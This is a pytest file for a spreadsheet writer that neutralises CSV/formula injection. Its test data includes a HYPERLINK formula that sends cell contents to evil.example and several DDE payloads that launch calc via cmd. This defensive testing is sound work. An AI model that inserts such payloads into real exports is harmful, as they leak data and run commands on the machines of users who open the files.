"""ADR 0080: the shared spreadsheet writer neutralises formula-like text and keeps numbers."""

import io
from decimal import Decimal

import pytest
from openpyxl import Workbook, load_workbook

from sanxiang.core import tabular

# The forms a hostile text takes in a cell (OWASP CSV injection): each starts with a trigger.
HOSTILE = [
    '=HYPERLINK("http://evil.example/?q="&A1,"点击查看")',
    "=1+1",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_csv_cells_starting_with_a_trigger_get_a_quote_and_come_back(text):
    cell = tabular.neutralise_csv(text)
    assert cell == "'" + text
    assert tabular.restore_csv_text(cell) == text


@pytest.mark.parametrize(
    "value", [-3, 2.5, Decimal("-12.50"), "-12.5", "+86", "1e5", "", "张三", "示例'=x"]
)
def test_numbers_and_plain_text_are_left_alone(value):
    assert tabular.neutralise_csv(value) == value
    assert tabular.restore_csv_text(value) == value


@pytest.mark.parametrize("text", ["'=1+1", "''", "'-x", "'", "'abc", "''=1"])
def test_texts_that_already_start_with_a_quote_round_trip(text):
    assert tabular.restore_csv_text(tabular.neutralise_csv(text)) == text


def test_csv_file_has_bom_crlf_and_neutralised_cells_but_numbers_stay():
    content = tabular.csv_bytes([["名称", "金额"], ["=1+1", -3], ["-3", Decimal("0.50")]])
    assert content.startswith("\ufeff".encode())
    assert content.decode("utf-8-sig") == "名称,金额\r\n'=1+1,-3\r\n-3,0.50\r\n"
    streamed = b"".join(tabular.csv_stream([["名称", "金额"], ["=1+1", -3], ["-3", "0.50"]]))
    assert streamed == content


def _round_trip(book) -> list[list]:
    buffer = io.BytesIO()
    book.save(buffer)
    loaded = load_workbook(io.BytesIO(buffer.getvalue()))
    return [[c.value for c in row] for row in loaded.worksheets[0].iter_rows()], loaded


@pytest.mark.parametrize("write_only", [False, True])
def test_xlsx_text_is_string_typed_and_numbers_stay_numbers(write_only):
    book = Workbook(write_only=write_only)
    sheet = book.create_sheet("数据") if write_only else book.active
    tabular.xlsx_append(sheet, [*HOSTILE, 42, Decimal("-1.5")])
    # Without the writer openpyxl stores "=1+1" as a live formula:
    assert Workbook().active.cell(1, 1, "=1+1").data_type == "f"
    [values], loaded = _round_trip(book)

    # (Python's XML parser reads a stored carriage return back as a line feed; lxml, which
    # openpyxl prefers when installed, keeps it.)
    def normal(value):
        return value.replace("\r", "\n") if isinstance(value, str) else value

    assert [normal(v) for v in values] == [*(normal(t) for t in HOSTILE), 42, -1.5]
    types = [c.data_type for c in next(loaded.worksheets[0].iter_rows())]
    assert types[: len(HOSTILE)] == ["s"] * len(HOSTILE)
    assert types[len(HOSTILE)] == "n" and "f" not in types


def test_no_module_writes_csv_or_xlsx_rows_around_the_shared_writer():
    """Every csv.writer / openpyxl sheet append outside tests goes through core/tabular.py."""
    from pathlib import Path

    import sanxiang

    root = Path(sanxiang.__file__).parent
    offenders = []
    for path in root.rglob("*.py"):
        if "tests" in path.parts or path.name == "tabular.py":
            continue
        source = path.read_text(encoding="utf-8")
        if "csv.writer" in source or "csv.DictWriter" in source:
            offenders.append(str(path))
        if "openpyxl" in source and ".append([" in source:
            offenders.append(str(path))
    assert offenders == []
